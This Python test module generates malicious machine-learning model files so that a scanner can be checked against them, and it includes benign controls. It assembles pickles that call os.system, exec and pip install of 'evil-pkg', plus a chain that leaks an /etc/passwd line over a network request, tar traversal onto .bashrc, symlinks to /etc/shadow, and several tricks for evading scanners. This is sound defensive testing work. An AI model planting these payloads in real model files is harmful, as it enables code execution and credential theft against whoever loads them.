"""Generators of malicious model files, one per attack, written at test time.

Nothing here is ever loaded: pickles are assembled opcode by opcode (no object with a
``__reduce__`` exists in the test process), archives and headers are built byte by byte.  The
payload commands are inert strings.  ``SAMPLES`` lists every generator with the rules our scanner
must report; ``scripts/compare_scanners.py`` runs picklescan and modelscan on the same files.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from unit.scan import format_samples as fs
from unit.scan.onnx_samples import (
    make_onnx_aten_fallback,
    make_onnx_constant_of_shape_bomb,
    make_onnx_custom_op_domain,
    make_onnx_ep_context,
    make_onnx_expand_bomb,
    make_onnx_external_absolute,
    make_onnx_external_hardlink,
    make_onnx_external_out_of_range,
    make_onnx_external_symlink,
    make_onnx_external_traversal,
    make_onnx_external_unknown_key,
    make_onnx_infinite_loop,
    make_onnx_invalid_graph,
    make_onnx_loop_trip_count,
    make_onnx_nesting_depth,
    make_onnx_ort_config_metadata,
    make_onnx_ort_mem_addr,
    make_onnx_range_tile_bomb,
    make_onnx_recursive_functions,
    make_onnx_tensor_dims_mismatch,
    make_onnx_tensor_two_fields,
    make_shadowlogic_if,
    make_shadowlogic_where,
)

PAYLOAD = "echo onnxguard-test-payload"


# --- pickle assembly -----------------------------------------------------------------------------
def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (protocol 0 text form, valid in every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """BINUNICODE opcode."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(callable_ops: bytes, *args: bytes) -> bytes:
    """Push callable, MARK, args, TUPLE, REDUCE."""
    return callable_ops + b"(" + b"".join(args) + b"tR"


def payload_pickle(module: str = "os", name: str = "system", arg: str = PAYLOAD) -> bytes:
    return b"\x80\x02" + call(glob(module, name), ustr(arg)) + b"."


def _write(directory: Path, name: str, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_bytes(data)
    return path


def _state_dict_pickle() -> bytes:
    """A benign protocol-2 pickle shaped like torch's data.pkl (OrderedDict of one tensor)."""
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        b"("
        + ustr("storage")
        + glob("torch", "FloatStorage")
        + ustr("0")
        + ustr("cpu")
        + b"K\x04tQ",  # BINPERSID: ('storage', FloatStorage, '0', 'cpu', 4)
        b"K\x00",
        b"K\x04\x85",
        b"K\x01\x85",
        b"\x89",
        call(glob("collections", "OrderedDict")),
    )
    body = call(glob("collections", "OrderedDict")) + ustr("weight") + tensor + b"s"
    return b"\x80\x02" + body + b"."


def _torch_zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _injected_data_pkl() -> bytes:
    """Sleepy-Pickle style: payload + POP spliced after PROTO of a real-looking state dict."""
    clean = _state_dict_pickle()
    return clean[:2] + call(glob("os", "system"), ustr(PAYLOAD)) + b"0" + clean[2:]


def _checkpoint_entries(data_pkl: bytes) -> dict[str, bytes]:
    return {
        "archive/data.pkl": data_pkl,
        "archive/byteorder": b"little",
        "archive/data/0": struct.pack("<4f", 1, 2, 3, 4),
        "archive/version": b"3\n",
    }


# --- pickle attacks ------------------------------------------------------------------------------
def make_reduce_os_system(d: Path) -> Path:
    return _write(d, "pytorch_model.bin", payload_pickle())


def make_builtins_exec(d: Path) -> Path:
    return _write(d, "model.pkl", payload_pickle("builtins", "exec", "import os; os.system('x')"))


def make_sleepy_pickle_torch_zip(d: Path) -> Path:
    return _write(d, "pytorch_model.bin", _torch_zip(_checkpoint_entries(_injected_data_pkl())))


def make_legacy_torch_payload(d: Path) -> Path:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    stream = magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00." + payload_pickle()
    stream += b"\x80\x02]q\x00." + b"\x00" * 16  # storage keys, then raw storage bytes
    return _write(d, "pytorch_model.bin", stream)


def make_pip_main(d: Path) -> Path:  # CVE-2025-1716
    body = call(glob("pip", "main"), b"]" + b"(" + ustr("install") + ustr("evil-pkg") + b"e")
    return _write(d, "model.pkl", b"\x80\x02" + body + b".")


def make_importlib_getattr_chain(d: Path) -> Path:
    module = call(glob("importlib", "import_module"), ustr("os"))
    system = call(glob("builtins", "getattr"), module, ustr("system"))
    return _write(d, "model.pkl", b"\x80\x02" + system + b"(" + ustr(PAYLOAD) + b"tR.")


def make_pkgutil_resolve_name(d: Path) -> Path:
    func = call(glob("pkgutil", "resolve_name"), ustr("os:system"))
    return _write(d, "model.pkl", b"\x80\x02" + func + b"(" + ustr(PAYLOAD) + b"tR.")


def make_asyncio_submodule(d: Path) -> Path:  # CVE-2025-10157
    return _write(d, "model.pkl", payload_pickle("asyncio.unix_events", "_UnixSubprocessTransport"))


def make_linecache_ssl_exfiltration(d: Path) -> Path:  # CVE-2025-46417
    line = call(glob("linecache", "getline"), ustr("/etc/passwd"), b"K\x01")
    leak = call(glob("ssl", "get_server_certificate"), b"(" + line + b"M\xbb\x01t")
    return _write(d, "model.pkl", b"\x80\x02" + leak + b".")


def short(text: str) -> bytes:
    """SHORT_BINUNICODE opcode."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def make_memo_stack_global(d: Path) -> Path:
    body = short("os") + b"\x94" + short("system") + b"\x94" + b"00"  # memoize, then pop both
    body += b"h\x00h\x01\x93" + ustr(PAYLOAD) + b"\x85R."  # BINGET 0/1, STACK_GLOBAL, call
    return _write(d, "model.pkl", b"\x80\x04" + body)


def make_computed_stack_global(d: Path) -> Path:
    module = call(glob("builtins", "str"), ustr("os"))  # "os" only exists at load time
    body = module + short("system") + b"\x93" + ustr(PAYLOAD) + b"\x85R."
    return _write(d, "model.pkl", b"\x80\x04" + body)


def make_protocol0_renamed_txt(d: Path) -> Path:  # CVE-2025-1889 (extension-based scanning)
    return _write(d, "notes.txt", b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR.")


def make_nullifai_broken_pickle(d: Path) -> Path:
    broken = b"\x80\x02" + call(glob("os", "system"), ustr(PAYLOAD)) + b"0" + b"\xff\xfebroken"
    return _write(d, "pytorch_model.bin", broken)


def protocol0_payload() -> bytes:
    """``os.system(PAYLOAD)`` in protocol 0 (text), without PROTO."""
    return b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR."


def make_long_line_fail_open(d: Path) -> Path:
    """A 70 KB UNICODE line, popped, then os.system: pickle.load reads lines of any length."""
    line = b"V" + b"A" * 70_000 + b"\n0"
    return _write(d, "pytorch_model.bin", b"\x80\x02" + line + protocol0_payload())


def make_long_line_text_disguise(d: Path) -> Path:
    """The same long-line trick without PROTO: the file is valid UTF-8 text."""
    return _write(d, "notes.txt", b"V" + b"A" * 70_000 + b"\n0" + protocol0_payload())


def make_frame_length_mismatch(d: Path) -> Path:  # C/Python unpickler differential
    """A FRAME that ends inside the GLOBAL opcode: pure-Python pickle refuses, C reads on."""
    body = glob("os", "system") + ustr(PAYLOAD) + b"\x85R."
    frame = b"\x95" + struct.pack("<Q", 5)
    return _write(d, "model.pkl", b"\x80\x04" + frame + body)


def make_truncated_binunicode(d: Path) -> Path:
    """First opcode BINUNICODE with a 3 GB length whose bytes decode as UTF-8 text."""
    return _write(d, "model.pkl", b"X\xc3\xbf\xc3\xbf" + b"tail of a cut-off pickle")


def make_posix_alias(d: Path) -> Path:  # os.system under its implementation module's name
    return _write(d, "model.pkl", payload_pickle("posix", "system"))


def make_nt_alias(d: Path) -> Path:
    return _write(d, "model.pkl", payload_pickle("nt", "system"))


def make_second_stream_protocol0(d: Path) -> Path:
    """A clean state dict, then a PROTO-less protocol-0 pickle: a second pickle.load runs it."""
    return _write(d, "model.pkl", _state_dict_pickle() + protocol0_payload())


def make_ordereddict_wrapped_payload(d: Path) -> Path:
    """The payload as the value of an allowlisted OrderedDict (hides behind a safe container)."""
    inner = call(glob("os", "system"), ustr(PAYLOAD))
    body = call(glob("collections", "OrderedDict")) + ustr("weight") + inner + b"s"
    return _write(d, "pytorch_model.bin", b"\x80\x02" + body + b".")


def _noise(n: int) -> bytes:
    """Deterministic high-entropy bytes (os.urandom made these samples flaky: one time in 256,
    a '{' at byte 8 turned 'unknown binary' into a safetensors header)."""
    import hashlib

    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(counter.to_bytes(4, "little")).digest()
        counter += 1
    return out[:n].replace(b"{", b"\xff")


def make_nullifai_7z(d: Path) -> Path:
    return _write(d, "pytorch_model.bin", b"7z\xbc\xaf\x27\x1c\x00\x04" + _noise(256))


def _patch_zip(data: bytes, member: str, patch: Callable[[bytearray, int, int], None]) -> bytes:
    """Apply ``patch(buf, local_header_offset, central_header_offset)`` for one member."""
    buf = bytearray(data)
    name = member.encode()
    local = buf.find(b"PK\x03\x04")
    while buf[local + 30 : local + 30 + len(name)] != name:
        local = buf.find(b"PK\x03\x04", local + 4)
    central = buf.find(b"PK\x01\x02")
    while buf[central + 46 : central + 46 + len(name)] != name:
        central = buf.find(b"PK\x01\x02", central + 4)
    patch(buf, local, central)
    return bytes(buf)


def make_zip_name_mismatch(d: Path) -> Path:  # CVE-2025-1944
    def patch(buf: bytearray, local: int, _central: int) -> None:
        buf[local + 30 + len("archive/data.pk")] = ord("X")  # local name data.pkX

    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))


def make_zip_encrypted_flag(d: Path) -> Path:  # CVE-2025-1945
    def patch(buf: bytearray, local: int, central: int) -> None:
        buf[local + 6] |= 0x01
        buf[central + 8] |= 0x01

    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))


def make_zip_bad_crc(d: Path) -> Path:  # CVE-2025-10156
    def patch(buf: bytearray, local: int, central: int) -> None:
        for at in (local + 14, central + 16):
            buf[at] ^= 0xFF

    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))


def make_pickle_in_unexpected_member(d: Path) -> Path:
    entries = _checkpoint_entries(_state_dict_pickle()) | {
        "archive/extra/blob.bin": payload_pickle()
    }
    return _write(d, "pytorch_model.bin", _torch_zip(entries))


def make_numpy_object_array(d: Path) -> Path:  # CVE-2019-6446
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    return _write(d, "embeddings.npy", npy + payload_pickle())


def make_gzip_joblib_pickle(d: Path) -> Path:
    return _write(d, "model.joblib", gzip.compress(payload_pickle()))


def make_ext_opcode(d: Path) -> Path:
    return _write(d, "model.pkl", b"\x80\x02\x82\x01" + b"(" + ustr(PAYLOAD) + b"tR.")


def make_build_monkeypatch(d: Path) -> Path:
    state = b"}(" + ustr("__reduce__") + glob("os", "system") + b"u"
    return _write(d, "model.pkl", b"\x80\x02" + glob("collections", "OrderedDict") + state + b"b.")


def make_dotted_attribute_walk(d: Path) -> Path:
    body = short("torch._utils") + short("_rebuild_tensor_v2.__globals__") + b"\x93."
    return _write(d, "model.pkl", b"\x80\x04" + body)


def make_unknown_global(d: Path) -> Path:
    return _write(d, "training_args.bin", b"\x80\x02" + call(glob("argparse", "Namespace")) + b".")


def make_torchscript_archive(d: Path) -> Path:
    import warnings

    import torch

    d.mkdir(parents=True, exist_ok=True)
    path = d / "model.pt"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), str(path))
    return path


def make_keras_lambda_h5(d: Path) -> Path:  # CVE-2024-3660
    config = {
        "class_name": "Functional",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {"name": "l", "function": ["4wEAAAAAAAAA", None]},
                }
            ]
        },
    }
    body = b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps(config).encode() + b"\x00" * 64
    return _write(d, "tf_model.h5", body)


# --- safetensors ---------------------------------------------------------------------------------
def safetensors_bytes(header: dict[str, object] | str, data: bytes) -> bytes:
    raw = (header if isinstance(header, str) else json.dumps(header)).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _f32(shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [begin, end]}


def make_safetensors_header_overflow(d: Path) -> Path:
    return _write(d, "model.safetensors", struct.pack("<Q", 1 << 40) + b'{"a": 1}')


def make_safetensors_duplicate_key(d: Path) -> Path:
    raw = (
        '{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
        '"w": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}'
    )
    return _write(d, "model.safetensors", safetensors_bytes(raw, b"\x00" * 8))


def make_safetensors_span_mismatch(d: Path) -> Path:
    return _write(d, "model.safetensors", safetensors_bytes({"w": _f32([4], 0, 8)}, b"\x00" * 8))


def make_safetensors_span_outside(d: Path) -> Path:
    return _write(d, "model.safetensors", safetensors_bytes({"w": _f32([4], 0, 16)}, b"\0" * 8))


def make_safetensors_overlap(d: Path) -> Path:
    header = {"a": _f32([2], 0, 8), "b": _f32([2], 4, 12)}
    return _write(d, "model.safetensors", safetensors_bytes(header, b"\x00" * 12))


def make_safetensors_gap(d: Path) -> Path:
    header = {"a": _f32([1], 0, 4), "b": _f32([1], 8, 12)}
    return _write(d, "model.safetensors", safetensors_bytes(header, b"\x00" * 12))


def make_safetensors_zip_polyglot(d: Path) -> Path:
    clean = safetensors_bytes({"w": _f32([1], 0, 4)}, b"\x00" * 4)
    appended = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
    return _write(d, "model.safetensors", clean + appended)


# --- configuration, files, archives --------------------------------------------------------------
def make_auto_map_remote_code(d: Path) -> Path:
    config = {"model_type": "bert", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
    _write(d, "config.json", json.dumps(config).encode())
    _write(d, "modeling_evil.py", b"import os\nos.system('echo pwned')\n")
    return d


def make_symlink_escape(d: Path) -> Path:
    d.mkdir(parents=True, exist_ok=True)
    (d / "model.safetensors").symlink_to("/etc/passwd")
    return d


def make_unknown_binary(d: Path) -> Path:
    return _write(d, "weights.dat", b"\x01\x02\x03\x04" + _noise(512))


def make_elf_library(d: Path) -> Path:
    return _write(d, "libcustom_ops.so", b"\x7fELF\x02\x01\x01" + b"\x00" * 57)


def make_tar_path_traversal(d: Path) -> Path:  # CVE-2007-4559
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        data = payload_pickle()
        info = tarfile.TarInfo("../../../home/user/.bashrc")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("weights")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/shadow"
        tf.addfile(link)
    return _write(d, "checkpoint.tar", buf.getvalue())


def make_zip_slip(d: Path) -> Path:
    return _write(d, "weights.zip", _torch_zip({"../../evil/data.pkl": _state_dict_pickle()}))


# --- registry ------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[Path], Path]
    rules: tuple[str, ...]
    """Rules our scanner must report (empty: the sample must be reported as unscanned)."""
    format: str


SAMPLES: tuple[Sample, ...] = (
    Sample("pickle-reduce-os-system", make_reduce_os_system, ("PKL001",), "pickle"),
    Sample("pickle-builtins-exec", make_builtins_exec, ("PKL001",), "pickle"),
    Sample("sleepy-pickle-torch-zip", make_sleepy_pickle_torch_zip, ("PKL001",), "pytorch"),
    Sample("legacy-torch-payload-4th-pickle", make_legacy_torch_payload, ("PKL001",), "pytorch"),
    Sample("CVE-2025-1716-pip-main", make_pip_main, ("PKL001",), "pickle"),
    Sample("importlib-getattr-chain", make_importlib_getattr_chain, ("PKL001", "PKL004"), "pickle"),
    Sample("pkgutil-resolve-name", make_pkgutil_resolve_name, ("PKL001", "PKL004"), "pickle"),
    Sample("CVE-2025-10157-asyncio-submodule", make_asyncio_submodule, ("PKL001",), "pickle"),
    Sample("CVE-2025-46417-linecache-ssl", make_linecache_ssl_exfiltration, ("PKL001",), "pickle"),
    Sample("memo-obfuscated-stack-global", make_memo_stack_global, ("PKL001",), "pickle"),
    Sample("computed-stack-global", make_computed_stack_global, ("PKL003",), "pickle"),
    Sample("CVE-2025-1889-protocol0-as-txt", make_protocol0_renamed_txt, ("PKL001",), "pickle"),
    Sample("nullifai-broken-pickle", make_nullifai_broken_pickle, ("PKL001", "PKL006"), "pytorch"),
    Sample("nullifai-broken-7z-checkpoint", make_nullifai_7z, ("ARC008",), "pytorch"),
    Sample("pickle-posix-system-alias", make_posix_alias, ("PKL001",), "pickle"),
    Sample("pickle-nt-system-alias", make_nt_alias, ("PKL001",), "pickle"),
    Sample("pickle-second-stream-protocol0", make_second_stream_protocol0, ("PKL001",), "pickle"),
    Sample(
        "pickle-ordereddict-wrapped-payload",
        make_ordereddict_wrapped_payload,
        ("PKL001",),
        "pickle",
    ),
    Sample("pickle-long-line-fail-open", make_long_line_fail_open, ("PKL001",), "pickle"),
    Sample("pickle-long-line-as-text", make_long_line_text_disguise, ("PKL001",), "pickle"),
    Sample("pickle-frame-length-mismatch", make_frame_length_mismatch, ("PKL010",), "pickle"),
    Sample("pickle-truncated-binunicode", make_truncated_binunicode, ("PKL007",), "pickle"),
    Sample(
        "CVE-2025-1944-zip-name-mismatch", make_zip_name_mismatch, ("ARC003", "PKL001"), "pytorch"
    ),
    Sample(
        "CVE-2025-1945-zip-encrypted-flag", make_zip_encrypted_flag, ("ARC004", "PKL001"), "pytorch"
    ),
    Sample("CVE-2025-10156-zip-bad-crc", make_zip_bad_crc, ("ARC005", "PKL001"), "pytorch"),
    Sample(
        "pickle-in-unexpected-zip-member", make_pickle_in_unexpected_member, ("PKL001",), "pytorch"
    ),
    Sample("CVE-2019-6446-numpy-object-array", make_numpy_object_array, ("PKL001",), "numpy"),
    Sample("gzip-joblib-pickle", make_gzip_joblib_pickle, ("PKL001",), "joblib"),
    Sample("pickle-ext-opcode", make_ext_opcode, ("PKL005",), "pickle"),
    Sample("pickle-build-monkeypatch", make_build_monkeypatch, ("PKL008", "PKL001"), "pickle"),
    Sample("pickle-dotted-attribute-walk", make_dotted_attribute_walk, ("PKL001",), "pickle"),
    Sample("pickle-unknown-global", make_unknown_global, ("PKL002",), "pickle"),
    Sample("torchscript-archive", make_torchscript_archive, ("PKL009",), "torchscript"),
    Sample("CVE-2024-3660-keras-lambda", make_keras_lambda_h5, ("FILE008",), "keras-h5"),
    Sample(
        "safetensors-header-overflow", make_safetensors_header_overflow, ("SFT001",), "safetensors"
    ),
    Sample("safetensors-duplicate-key", make_safetensors_duplicate_key, ("SFT003",), "safetensors"),
    Sample("safetensors-span-mismatch", make_safetensors_span_mismatch, ("SFT005",), "safetensors"),
    Sample("safetensors-span-outside", make_safetensors_span_outside, ("SFT006",), "safetensors"),
    Sample("safetensors-overlap", make_safetensors_overlap, ("SFT007",), "safetensors"),
    Sample("safetensors-gap", make_safetensors_gap, ("SFT008",), "safetensors"),
    Sample(
        "safetensors-zip-polyglot",
        make_safetensors_zip_polyglot,
        ("SFT009", "FILE006"),
        "safetensors",
    ),
    Sample("auto-map-remote-code", make_auto_map_remote_code, ("CFG001", "CFG002"), "config"),
    Sample("symlink-escape", make_symlink_escape, ("FILE001",), "directory"),
    Sample("unknown-binary", make_unknown_binary, (), "directory"),
    Sample("elf-library", make_elf_library, ("FILE005",), "directory"),
    Sample(
        "CVE-2007-4559-tar-traversal",
        make_tar_path_traversal,
        ("ARC001", "ARC007", "PKL001"),
        "tar",
    ),
    Sample("zip-slip", make_zip_slip, ("ARC001",), "zip"),
    Sample(
        "CVE-2022-25882-onnx-external-traversal", make_onnx_external_traversal, ("ONNX002",), "onnx"
    ),
    Sample("onnx-external-absolute", make_onnx_external_absolute, ("ONNX001",), "onnx"),
    Sample(
        "CVE-2024-27318-onnx-external-symlink", make_onnx_external_symlink, ("ONNX003",), "onnx"
    ),
    Sample("onnx-external-hardlink", make_onnx_external_hardlink, ("ONNX004",), "onnx"),
    Sample("onnx-external-out-of-range", make_onnx_external_out_of_range, ("ONNX006",), "onnx"),
    Sample("onnx-external-unknown-key", make_onnx_external_unknown_key, ("ONNX007",), "onnx"),
    Sample("onnx-ort-mem-addr", make_onnx_ort_mem_addr, ("ONNX008",), "onnx"),
    Sample("onnx-custom-op-domain", make_onnx_custom_op_domain, ("ONNX010",), "onnx"),
    Sample("onnx-ep-context", make_onnx_ep_context, ("ONNX013",), "onnx"),
    Sample("onnx-aten-fallback", make_onnx_aten_fallback, ("ONNX014",), "onnx"),
    Sample("onnx-tensor-two-data-fields", make_onnx_tensor_two_fields, ("ONNX020",), "onnx"),
    Sample("onnx-tensor-dims-mismatch", make_onnx_tensor_dims_mismatch, ("ONNX021",), "onnx"),
    Sample("onnx-constant-of-shape-bomb", make_onnx_constant_of_shape_bomb, ("ONNX024",), "onnx"),
    Sample("onnx-expand-bomb", make_onnx_expand_bomb, ("ONNX024",), "onnx"),
    Sample("onnx-range-tile-bomb", make_onnx_range_tile_bomb, ("ONNX024",), "onnx"),
    Sample("onnx-loop-trip-count", make_onnx_loop_trip_count, ("ONNX025",), "onnx"),
    Sample("onnx-infinite-loop", make_onnx_infinite_loop, ("ONNX025",), "onnx"),
    Sample("onnx-nesting-depth", make_onnx_nesting_depth, ("ONNX027",), "onnx"),
    Sample("onnx-recursive-functions", make_onnx_recursive_functions, ("ONNX028",), "onnx"),
    Sample("onnx-ort-config-metadata", make_onnx_ort_config_metadata, ("ONNX030",), "onnx"),
    Sample("onnx-invalid-graph", make_onnx_invalid_graph, ("ONNX032",), "onnx"),
    Sample("shadowlogic-where", make_shadowlogic_where, ("ONNX031",), "onnx"),
    Sample("shadowlogic-if", make_shadowlogic_if, ("ONNX031",), "onnx"),
    # chat templates (CVE-2024-34359 family), Keras v3, links, 7z, SavedModel
    Sample(
        "CVE-2024-34359-template-tokenizer-config",
        fs.make_template_tokenizer_config,
        ("TPL001",),
        "chat-template",
    ),
    Sample(
        "template-named-list-attr-chain", fs.make_template_named_list, ("TPL001",), "chat-template"
    ),
    Sample(
        "template-printf-built-dunder",
        fs.make_template_obfuscated_attr,
        ("TPL001",),
        "chat-template",
    ),
    Sample(
        "template-jinja-file-popen-loop", fs.make_template_jinja_file, ("TPL001",), "chat-template"
    ),
    Sample("template-yaml-config", fs.make_template_yaml, ("TPL001",), "chat-template"),
    Sample("template-gguf-metadata", fs.make_template_gguf, ("TPL001",), "gguf"),
    Sample("CVE-2024-3660-keras-v3-lambda", fs.make_keras_v3_lambda, ("FILE008",), "keras"),
    Sample(
        "keras-v3-module-outside-keras", fs.make_keras_v3_external_module, ("FILE010",), "keras"
    ),
    Sample("zip-symlink-etc-passwd", fs.make_zip_symlink_passwd, ("ARC007",), "zip"),
    Sample("torch-zip-symlink-member", fs.make_torch_zip_symlink, ("ARC007",), "pytorch"),
    Sample("nullifai-7z-pickle", fs.make_7z_pickle, ("PKL001",), "7z"),
    Sample("savedmodel-eager-pyfunc", fs.make_savedmodel_pyfunc, ("FILE012",), "tensorflow"),
    Sample("savedmodel-readfile", fs.make_savedmodel_readfile, ("FILE012",), "tensorflow"),
    Sample("savedmodel-keras-lambda", fs.make_savedmodel_keras_lambda, ("FILE008",), "tensorflow"),
)


@dataclass(frozen=True)
class Clean:
    """A benign file every scanner should pass (the false-alarm controls)."""

    name: str
    make: Callable[[Path], Path]
    format: str


def make_clean_joblib(d: Path) -> Path:
    import joblib
    import numpy as np

    d.mkdir(parents=True, exist_ok=True)
    joblib.dump(
        {"w": np.arange(12.0).reshape(3, 4), "names": np.array(["a", "b"])}, d / "model.joblib"
    )
    return d


def make_clean_numpy_pickles(d: Path) -> Path:
    import pickle

    import numpy as np

    d.mkdir(parents=True, exist_ok=True)
    data = {"a": np.arange(4), "b": [1, 2.5, "x"], "s": np.float32(1.5)}
    for proto in range(6):
        (d / f"p{proto}.pkl").write_bytes(pickle.dumps(data, protocol=proto))
    return d


def make_clean_state_dict_zip(d: Path) -> Path:
    return _write(d, "pytorch_model.bin", _torch_zip(_checkpoint_entries(_state_dict_pickle())))


def make_clean_external_data_dotdot(d: Path) -> Path:
    from unit.scan.onnx_samples import _external, _onnx_model, _save

    (d / "sub").mkdir(parents=True, exist_ok=True)
    _write(d, "weights.bin", struct.pack("<4f", 1, 2, 3, 4))
    return _save(d, _onnx_model(initializers=[_external("sub/../weights.bin")]))


def make_clean_safetensors(d: Path) -> Path:
    header = {"a": _f32([2], 0, 8), "b": _f32([1], 8, 12), "__metadata__": {"format": "pt"}}
    return _write(d, "model.safetensors", safetensors_bytes(header, b"\x00" * 12))


CLEAN: tuple[Clean, ...] = (
    Clean("clean-torch-state-dict-zip", make_clean_state_dict_zip, "pytorch"),
    Clean("clean-numpy-pickles-p0-p5", make_clean_numpy_pickles, "pickle"),
    Clean("clean-joblib-numpy-arrays", make_clean_joblib, "joblib"),
    Clean("clean-safetensors", make_clean_safetensors, "safetensors"),
    Clean("clean-onnx-external-data-sub-dotdot", make_clean_external_data_dotdot, "onnx"),
    Clean("clean-tokenizer-config-llama3.1-tools", fs.make_clean_tokenizer_config, "chat-template"),
    Clean("clean-gguf-qwen2.5-template", fs.make_clean_gguf, "gguf"),
    Clean("clean-keras-v3-dense", fs.make_clean_keras_v3, "keras"),
    Clean("clean-7z-config", fs.make_clean_7z, "7z"),
    Clean("clean-savedmodel", fs.make_clean_savedmodel, "tensorflow"),
    Clean("clean-encrypted-zip", fs.make_clean_encrypted_zip, "zip"),
)
